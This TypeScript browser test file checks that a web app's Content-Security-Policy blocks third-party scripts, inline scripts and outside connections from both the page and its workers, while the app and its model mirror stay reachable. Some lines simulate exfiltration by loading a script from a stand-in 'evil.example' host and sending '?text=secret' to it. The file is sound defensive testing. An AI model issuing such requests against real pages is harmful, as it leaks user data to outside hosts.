/**
 * The Content-Security-Policy as served: in the page and its headers, blocking what it forbids
 * (a third-party script, an inline script, a connection to another host) while the app's origin
 * and the model mirror stay reachable.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page, Worker } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { appUrl, appWorker, openPage, useChromium } from './harness';

const browser = useChromium('wasm');
/** Another origin that would answer anyone (open CORS): what it receives is what got out. */
let elsewhere: Server;
const received: string[] = [];

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    received.push(request.url ?? '');
    response.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Cross-Origin-Resource-Policy': 'cross-origin',
    });
    response.end('got it');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
});

afterAll(async () => {
  await new Promise((resolve) => elsewhere?.close(resolve));
});

interface Violation {
  directive: string;
  blocked: string;
}

/** Opens the app with the mirror (or the hub) as its model source, recording CSP violations. */
async function open(url: string) {
  const failed = new Map<string, string>();
  const { page, errors, blocked } = await openPage(browser(), url, {
    beforeLoad: async (p) => {
      p.context().on('requestfailed', (request) =>
        failed.set(request.url(), request.failure()?.errorText ?? ''),
      );
      await p.addInitScript(() => {
        const seen: { directive: string; blocked: string }[] = [];
        (globalThis as unknown as { violations: typeof seen }).violations = seen;
        document.addEventListener('securitypolicyviolation', (event) =>
          seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
        );
      });
    },
  });
  await page.getByRole('button', { name: 'Ask', exact: true }).waitFor();
  return { page, errors, failed, blocked };
}

/** Each violation once: one that breaks both the header's and the meta's policy is reported twice. */
const violations = async (page: Page) => {
  const all = await page.evaluate(
    () => (globalThis as unknown as { violations: Violation[] }).violations,
  );
  return [...new Set(all.map((v) => JSON.stringify(v)))].map((v) => JSON.parse(v) as Violation);
};

/** Whether a fetch from the page succeeded, or the message it failed with. */
const tryFetch = (page: Page, url: string) =>
  page.evaluate(
    (target) =>
      fetch(target).then(
        (response) => `ok ${response.status}`,
        (error: Error) => `failed: ${error.message}`,
      ),
    url,
  );

describe('the served policy', () => {
  test('index.html carries the policy, and every response its header', async () => {
    const response = await fetch(inject('appUrl'));
    const html = await response.text();
    const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1];
    expect(meta).toMatch(/script-src 'self' 'wasm-unsafe-eval' blob:;/);
    expect(meta).toMatch(/object-src 'none'/);
    expect(response.headers.get('content-security-policy')).toMatch(/frame-ancestors 'none'/);
    // Before any other script: the policy is the first thing in <head> after the charset.
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
  });

  test('the page adds connect-src for this visit’s model source', async () => {
    const { page, errors } = await open(appUrl());
    const policies = await page.evaluate(() =>
      [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map(
        (meta) => (meta as HTMLMetaElement).content,
      ),
    );
    const mirror = new URL(inject('mirrorUrl')).origin;
    expect(policies).toHaveLength(2);
    expect(policies[1]).toBe(`connect-src 'self' blob: data: ${mirror}`);
    expect(await violations(page)).toEqual([]);
    await page.context().close();
    expect(errors).toEqual([]);
  });
});

describe('what the policy blocks, and what it lets through', () => {
  test('a third-party script, an inline script and a connection elsewhere are blocked; the mirror is not', async () => {
    const { page, errors, failed, blocked } = await open(appUrl());
    const mirror = inject('mirrorUrl');

    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.head.append(script);
      const inline = document.createElement('script');
      inline.textContent = 'globalThis.inlineRan = true;';
      document.head.append(inline);
    });
    expect(await tryFetch(page, 'https://evil.example/collect?text=secret')).toMatch(/^failed/);
    // A host the static policy allows (any http) but this visit's does not: another local port.
    expect(await tryFetch(page, 'http://127.0.0.1:9/collect')).toMatch(/^failed/);
    expect(
      await tryFetch(page, `${mirror}grounded-test/tiny-embedder/resolve/main/config.json`),
    ).toBe('ok 200');
    expect(await tryFetch(page, new URL('/samples/', inject('appUrl')).href)).toMatch(/^ok/);

    await expect.poll(() => violations(page)).toHaveLength(4);
    expect(await violations(page)).toEqual(
      expect.arrayContaining([
        { directive: 'script-src-elem', blocked: 'https://evil.example/x.js' },
        { directive: 'script-src-elem', blocked: 'inline' },
        { directive: 'connect-src', blocked: 'https://evil.example/collect?text=secret' },
        { directive: 'connect-src', blocked: 'http://127.0.0.1:9/collect' },
      ]),
    );
    expect(await page.evaluate(() => 'inlineRan' in globalThis)).toBe(false);
    // Blocked by the policy in the browser, before the request reached the network.
    expect(failed.get('https://evil.example/x.js')).toBe('csp');
    expect(blocked).toEqual([]);
    await page.context().close();
    // The browser reports each violation on the console, and nothing else went wrong.
    expect(errors.filter((error) => !/Content Security Policy/.test(error))).toEqual([]);
  });

  test('without models=, the mirror is another host and is blocked; the hub is the model source', async () => {
    const url = new URL(appUrl());
    url.searchParams.delete('models');
    const { page } = await open(url.href);
    expect(
      await tryFetch(
        page,
        `${inject('mirrorUrl')}grounded-test/tiny-embedder/resolve/main/config.json`,
      ),
    ).toMatch(/^failed/);
    expect(await violations(page)).toEqual([
      {
        directive: 'connect-src',
        blocked: `${inject('mirrorUrl')}grounded-test/tiny-embedder/resolve/main/config.json`,
      },
    ]);
    const policies = await page.evaluate(() =>
      [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map(
        (meta) => (meta as HTMLMetaElement).content,
      ),
    );
    expect(policies[1]).toContain('https://huggingface.co');
    await page.context().close();
  });
});

/** A fetch from inside a worker: its outcome and the CSP violations the worker saw meanwhile. */
const tryFetchIn = (worker: Worker, url: string) =>
  worker.evaluate(async (target) => {
    const seen: Violation[] = [];
    const record = (event: SecurityPolicyViolationEvent) =>
      seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
    self.addEventListener('securitypolicyviolation', record);
    const outcome = await fetch(target).then(
      (response) => `ok ${response.status}`,
      (error: Error) => `failed: ${error.message}`,
    );
    // Violations are reported in a task after the fetch fails.
    await new Promise((resolve) => setTimeout(resolve, 100));
    self.removeEventListener('securitypolicyviolation', record);
    return { outcome, violations: seen };
  }, url);

describe('the app’s own workers', () => {
  test('obey the page’s connect-src: another host is blocked, the mirror and the app are not', async () => {
    const { page, errors, blocked } = await open(appUrl());
    const mirror = inject('mirrorUrl');
    const other = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/collect?text=secret`;

    for (const label of ['grounded-search', 'grounded-embed']) {
      const worker = await appWorker(page, label);
      // Started from a blob: URL, which is how it takes the page's policy.
      expect(worker.url()).toMatch(/^blob:/);
      expect(await tryFetchIn(worker, other)).toEqual({
        outcome: expect.stringMatching(/^failed/),
        violations: [{ directive: 'connect-src', blocked: other }],
      });
      expect(
        await tryFetchIn(worker, `${mirror}grounded-test/tiny-embedder/resolve/main/config.json`),
      ).toEqual({ outcome: 'ok 200', violations: [] });
      expect(await tryFetchIn(worker, new URL('/samples/', inject('appUrl')).href)).toEqual({
        outcome: expect.stringMatching(/^ok/),
        violations: [],
      });
      // Still cross-origin isolated, so onnxruntime and wllama keep their threads.
      expect(await worker.evaluate(() => crossOriginIsolated)).toBe(true);
    }

    expect(received).toEqual([]);
    expect(blocked).toEqual([]);
    await page.context().close();
    expect(errors.filter((error) => !/Content Security Policy/.test(error))).toEqual([]);
  });
});
